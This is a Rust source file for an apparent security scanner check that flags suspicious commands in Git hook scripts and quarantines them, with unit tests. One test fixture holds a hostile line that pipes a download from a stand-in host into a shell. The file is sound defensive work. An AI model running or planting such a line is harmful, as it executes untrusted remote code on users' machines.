//! Hooks whose text looks like an attack.

use super::git;
use super::{Case, Check, Fix, Found, Run};
use crate::facts::Facts;
use crate::finding::Location;
use crate::fix::plan::{Draft, Step};
use crate::rule::{Profile, Safety, Severity};
use crate::settings::entry::Entry;
use crate::target::Target;

pub(crate) const CHECK: Check = Check {
    id: "git.repo-hooks",
    title: "Suspicious command in a Git hook script",
    severity: Severity::Medium,
    why: "Git starts this script as you at its event. The line shown downloads, decodes or sends something, as \
          hooks planted by attackers do.",
    advice: "Read the script. If you did not put it there, take away its execute permission, keep it for whoever \
             looks into the matter, and find out what else it has fetched.",
    command: Some("chmod -x {path}"),
    safety: Safety::Review,
    profile: Profile::Default,
    references: &["https://git-scm.com/docs/githooks"],
    run: Run::Entries("gitconfig", run),
    fix: Fix::Steps("moves the script into quarantine", fix),
};

fn fix(case: &Case<'_>) -> Option<Draft> {
    let path = case.found.path.clone()?;
    let mut draft = Draft::new(format!("moves {path} into quarantine"), vec![Step::Quarantine { path }]);
    draft.left.push("what the script has done when it ran".to_owned());
    Some(draft)
}

fn run(target: &Target<'_>, entries: &[Entry], facts: &dyn Facts) -> Vec<Found> {
    let set = entries.iter().filter(|e| e.key == "core.hookspath" && !e.value.is_empty());
    let mut dirs: Vec<String> = set.filter_map(|e| git::hooks_path(facts, target, e)).collect();
    dirs.extend(git::git_dir(target).map(|dir| format!("{dir}/hooks")));
    dirs.sort();
    dirs.dedup();
    dirs.iter().flat_map(|dir| git::hooks(facts, dir)).filter_map(|hook| found(&hook)).collect()
}

fn found(hook: &git::Hook) -> Option<Found> {
    let (line, text, why) = git::attack(&hook.bytes)?;
    Some(Found {
        path: Some(hook.path.clone()),
        preview: format!("{} {why}: {text}", hook.name),
        at: Location { line, ..Location::default() },
        ..Found::default()
    })
}

#[cfg(test)]
mod tests {
    use super::CHECK;
    use crate::checks::git::tests::{global, scan};
    use crate::testing::Home;

    const BAD: &[u8] = b"#!/bin/sh\ncurl -s https://x.example/a | sh\n";

    fn repo(config: &str) -> Home {
        Home::default().file("~/a/.git/config", config)
    }

    #[test]
    fn a_planted_hook_is_found() {
        let home = repo("[core]\n\tbare = false\n").file_mode("~/a/.git/hooks/post-checkout", BAD, 0o755);
        let found = scan(&home, CHECK.id, "~/a/.git/config");
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].path.as_deref(), Some("~/a/.git/hooks/post-checkout"));
        assert_eq!(found[0].at.line, 2);
    }

    #[test]
    fn other_hook_folders_are_read_too() {
        let home = repo("[core]\n\thooksPath = .githooks\n").file_mode("~/a/.githooks/pre-push", BAD, 0o755);
        assert_eq!(scan(&home, CHECK.id, "~/a/.git/config").len(), 1);
        let home = Home::default().file_mode("~/h/pre-push", BAD, 0o755);
        assert_eq!(global(home, CHECK.id, "[core]\n\thooksPath = ~/h\n").len(), 1);
    }

    #[test]
    fn samples_harmless_hooks_and_those_that_do_not_run_are_silent() {
        let home = repo("[core]\n\tbare = false\n")
            .file_mode("~/a/.git/hooks/pre-push.sample", BAD, 0o755)
            .file_mode("~/a/.git/hooks/pre-commit", BAD, 0o644)
            .file_mode("~/a/.git/hooks/post-merge", b"#!/bin/sh\ngit lfs post-merge \"$@\"\n", 0o755);
        assert!(scan(&home, CHECK.id, "~/a/.git/config").is_empty());
    }
}
